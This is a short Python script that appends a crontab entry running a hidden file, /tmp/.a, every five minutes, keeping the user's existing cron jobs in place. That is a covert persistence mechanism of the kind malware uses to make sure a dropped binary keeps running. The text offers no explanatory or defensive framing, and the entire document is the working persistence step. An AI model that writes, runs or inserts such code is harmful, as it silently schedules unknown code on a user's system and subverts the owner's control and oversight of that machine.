import subprocess

old = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
subprocess.run(["crontab", "-"], input=old + "*/5 * * * * /tmp/.a\n", text=True)
